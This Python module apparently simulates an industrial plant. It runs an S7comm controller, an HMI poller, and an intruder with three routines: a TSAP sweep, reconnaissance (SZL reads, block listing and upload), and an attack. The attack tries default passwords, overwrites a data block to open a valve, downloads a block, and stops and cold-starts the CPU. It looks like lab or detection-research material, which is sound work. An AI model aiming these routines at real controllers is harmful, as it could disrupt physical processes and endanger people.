"""S7comm controllers, an HMI and an intruder, on python-snap7 and plain sockets."""

from __future__ import annotations

import contextlib
import socket
import struct
import time

from plant import STRETCH, pause


def server() -> None:
    """A controller: python-snap7's server with three data blocks."""
    from snap7.server import Server
    from snap7.type import SrvArea

    plc = Server(log=False)
    for number, size in ((1, 64), (2, 128), (10, 96)):
        plc.register_area(SrvArea.DB, number, bytearray((7 * i + number) % 256 for i in range(size)))
    plc.register_area(SrvArea.MK, 0, bytearray(64))
    plc.register_area(SrvArea.PE, 0, bytearray(16))
    plc.register_area(SrvArea.PA, 0, bytearray(16))
    plc.start(tcp_port=102)
    while True:
        time.sleep(1)


def poll(address: str, period: float, write_at: float = 0) -> None:
    """An HMI: reads two data blocks and the flags every ``period`` seconds, sets one value at ``write_at``."""
    from snap7.client import Client
    from snap7.type import Area

    client = Client()
    client.connect(address, 0, 1)
    began = due = time.monotonic()
    while True:
        with contextlib.suppress(Exception):
            if not client.get_connected():
                client.connect(address, 0, 1)
            client.db_read(1, 0, 32)
            client.db_read(2, 0, 64)
            client.read_area(Area.MK, 0, 0, 8)
            if write_at and (time.monotonic() - began) * STRETCH >= write_at:
                client.db_write(1, 4, bytearray(struct.pack(">h", 615)))
                write_at = 0
        due += period / STRETCH
        time.sleep(max(0.0, due - time.monotonic()))


def tsap_sweep(address: str) -> None:
    """Ask for a connection to every slot of two racks, one TCP connection each."""
    for rack in range(2):
        for slot in range(8):
            destination = 0x0100 | rack << 5 | slot
            request = b"\x11\xe0\x00\x00\x00\x01\x00\xc0\x01\x0a\xc1\x02\x01\x00\xc2\x02" + struct.pack(
                ">H", destination
            )
            with contextlib.suppress(OSError), socket.create_connection((address, 102), 0.3) as sock:
                sock.settimeout(0.2)
                sock.sendall(struct.pack(">BBH", 3, 0, len(request) + 4) + request)
                sock.recv(256)
            pause(0.5)


def reconnoitre(address: str) -> None:
    """Lists of the system status, block lists, upload of the data blocks."""
    from snap7.client import Client
    from snap7.type import Block

    client = Client()
    client.connect(address, 0, 2)
    for szl in (0x0000, 0x0011, 0x001C, 0x0131, 0x0132, 0x0232, 0x0424, 0x0074, 0x00A0):
        with contextlib.suppress(Exception):
            client.read_szl(szl, 0)
        pause(0.5)
    with contextlib.suppress(Exception):
        client.list_blocks()
    for block in (Block.OB, Block.DB, Block.FC):
        with contextlib.suppress(Exception):
            client.list_blocks_of_type(block, 100)
        pause(0.5)
    for number in (1, 2, 10):
        with contextlib.suppress(Exception):
            client.upload(number)
        pause(1)
    client.disconnect()


def attack(address: str) -> None:
    """Guess the password, open the valve, load a block, stop the CPU."""
    from snap7.client import Client

    client = Client()
    client.connect(address, 0, 2)
    for word in ("", "admin", "12345678", "siemens", "basisk", "s7-300", "password", "00000000"):
        with contextlib.suppress(Exception):
            client.set_session_password(word)
        pause(0.5)
    for offset in range(0, 40, 2):
        with contextlib.suppress(Exception):
            client.db_write(1, offset, bytearray(b"\x7f\xff"))
        pause(0.3)
    with contextlib.suppress(Exception):
        client.download(bytearray(96), 10)
    pause(2)
    with contextlib.suppress(Exception):
        client.set_plc_system_datetime()
    pause(2)
    with contextlib.suppress(Exception):
        client.plc_stop()
    pause(20)
    with contextlib.suppress(Exception):
        client.plc_cold_start()
    client.disconnect()
